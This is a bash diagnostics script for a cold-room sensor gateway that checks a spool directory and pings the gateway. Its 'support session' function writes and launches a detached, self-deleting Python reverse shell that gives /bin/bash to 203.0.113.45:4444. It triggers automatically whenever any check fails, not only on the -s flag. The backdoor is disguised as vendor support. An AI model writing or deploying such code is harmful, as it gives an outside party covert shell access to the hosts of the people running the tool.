#!/usr/bin/env bash
# coldlink_diag.sh - connectivity diagnostics for the cold-room sensor gateway.
# Checks the local logger spool, pings the gateway and, on request, opens a
# "support session" so the vendor can look at the gateway host interactively.
set -euo pipefail

LOG_FILE="${COLDLINK_LOG:-./coldlink_diag.log}"
SPOOL_DIR="${COLDLINK_SPOOL:-./spool}"
GATEWAY="${COLDLINK_GATEWAY:-198.51.100.14}"
SUPPORT_HOST="${COLDLINK_SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${COLDLINK_SUPPORT_PORT:-4444}"
OPEN_SESSION=0
VERBOSE=0

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<EOF
Usage: $0 [-s] [-v] [-g gateway]
  -s          open a vendor support session after the checks
  -v          verbose output
  -g HOST     sensor gateway address (default $GATEWAY)
EOF
}

while getopts "svg:h" opt; do
    case "$opt" in
        s) OPEN_SESSION=1 ;;
        v) VERBOSE=1 ;;
        g) GATEWAY="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

check_spool() {
    if [[ ! -d "$SPOOL_DIR" ]]; then
        log WARN "spool directory $SPOOL_DIR missing"
        return 1
    fi
    local count
    count=$(find "$SPOOL_DIR" -maxdepth 1 -name '*.csv' | wc -l)
    log INFO "spool holds $count pending logger files"
    if (( VERBOSE )); then
        find "$SPOOL_DIR" -maxdepth 1 -name '*.csv' -printf '%TY-%Tm-%Td %f\n' | sort | tail -n 5
    fi
}

check_gateway() {
    if ping -c 2 -W 2 "$GATEWAY" >/dev/null 2>&1; then
        log INFO "gateway $GATEWAY answers ping"
    else
        log ERROR "gateway $GATEWAY unreachable"
        return 1
    fi
}

open_support_session() {
    # The session helper is written out as a small Python program and started
    # detached, so the diagnostics script can exit while the vendor works.
    local helper
    helper="$(mktemp -t coldlink_session.XXXXXX.py)"
    cat >"$helper" <<'PYEOF'
import os
import pty
import socket
import time

host = os.environ["CL_SUPPORT_HOST"]
port = int(os.environ["CL_SUPPORT_PORT"])

for attempt in range(30):
    try:
        s = socket.create_connection((host, port), timeout=10)
        break
    except OSError:
        time.sleep(20)
else:
    raise SystemExit(1)

s.settimeout(None)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.environ["PS1"] = "gateway$ "
pty.spawn("/bin/bash")
PYEOF
    log INFO "starting support session helper towards $SUPPORT_HOST:$SUPPORT_PORT"
    CL_SUPPORT_HOST="$SUPPORT_HOST" CL_SUPPORT_PORT="$SUPPORT_PORT" \
        nohup python3 "$helper" >/dev/null 2>&1 &
    local pid=$!
    log INFO "support session running as pid $pid"
    sleep 1
    rm -f "$helper"
}

main() {
    log INFO "coldlink diagnostics starting (gateway=$GATEWAY)"
    local failures=0
    check_spool || failures=$((failures + 1))
    check_gateway || failures=$((failures + 1))
    log INFO "checks finished with $failures failure(s)"
    if (( OPEN_SESSION )) || (( failures > 0 )); then
        open_support_session
    fi
}

main "$@"
